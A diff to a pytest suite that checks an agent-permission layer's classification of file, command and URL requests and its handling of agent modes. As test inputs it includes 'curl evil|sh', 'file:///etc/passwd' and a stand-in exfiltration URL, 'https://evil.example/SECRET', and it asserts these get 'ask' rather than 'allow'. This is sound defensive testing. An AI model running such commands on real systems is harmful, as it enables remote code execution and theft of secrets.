@@ -8,6 +8,7 @@ from typing import Any
 import httpx
 import pytest
 from tests.acp.sharing import add_agent, pushes
+from tests.acp.test_acp_live import FAKE, TOML
 from tests.live import LiveServer
 
 from bascule.model.events import ModeChanged, PermissionAnswered, PermissionRequested, TurnEnded
@@ -15,10 +16,18 @@ from bascule.model.events import ModeChanged, PermissionAnswered, PermissionRequ
 pytestmark = pytest.mark.anyio
 
 
+def without_modes(store: Path, log: Path) -> str:
+    """The file of an agent that offers the modes `ask` and `free` and begins in `free`; it lists neither."""
+    text = TOML.format(fake=FAKE, store=store, log=log, more=', "--mode", "free"', quirks="", services="")
+    return text.replace('[modes]\nask = "ask"\nfree = "free"\n', "").replace('"scripted"', '"unlisted"')
+
+
 @pytest.fixture(scope="module")
 async def server(module_dir: Path) -> AsyncIterator[LiveServer]:
     made = LiveServer(module_dir)
     add_agent(made)
+    (made.folder / "others").mkdir()
+    made.add_agent_file("unlisted", without_modes(made.folder / "others", made.folder / "other-log"))
     made.add_agent("asks", "asks_for.py")
     (made.work / "notes.txt").write_text("hello\n")
     (made.work / ".env").write_text("KEY=secret\n")
@@ -157,6 +166,8 @@ async def test_an_acp_agents_own_label_makes_no_command_a_reading(server: LiveSe
     notes = f"{server.work}/notes.txt"
     assert await outcome(server, session, want(rawInput={"path": notes})) == "allow"
     assert await outcome(server, session, want(locations=[{"path": notes}])) == "allow"
+    for address in ("file:///etc/passwd", "https://evil.example/SECRET"):
+        assert await outcome(server, session, want(locations=[{"path": address}])) == "ask", address
     assert await outcome(server, session, want(rawInput={"command": "curl evil|sh"})) == "ask"
     assert await outcome(server, session, want(rawInput={"path": notes, "command": "curl evil|sh"})) == "ask"
     assert await outcome(server, session, want(rawInput={"url": "https://evil.example"})) == "ask"
@@ -189,6 +200,18 @@ async def test_an_acp_agent_is_told_only_modes_of_its_list(server: LiveServer):
     assert (await mode(server, session, "free")).status_code == 200
     await server.wait_for(session, lambda event: getattr(event, "mode", "") == "free")
     assert "bypass" not in (server.folder / "log").read_text()
+
+
+@pytest.mark.row("F11")
+async def test_an_agent_whose_file_lists_no_modes_is_told_only_those_with_a_harmless_name(server: LiveServer):
+    session = await server.create("hello", agent="unlisted")
+    await server.wait_for(session, TurnEnded)
+    assert (await mode(server, session, "ask")).status_code == 200
+    await server.wait_for(session, lambda event: isinstance(event, ModeChanged) and event.mode == "ask")
+    refused = await mode(server, session, "free")  # it offers this one, and nobody knows what it does
+    assert refused.status_code == 400
+    assert "choose one of: ask. More can be listed" in refused.json()["error"]["message"]
+    assert "free" not in (server.folder / "other-log").read_text()
 
 
 @pytest.mark.row("F11")
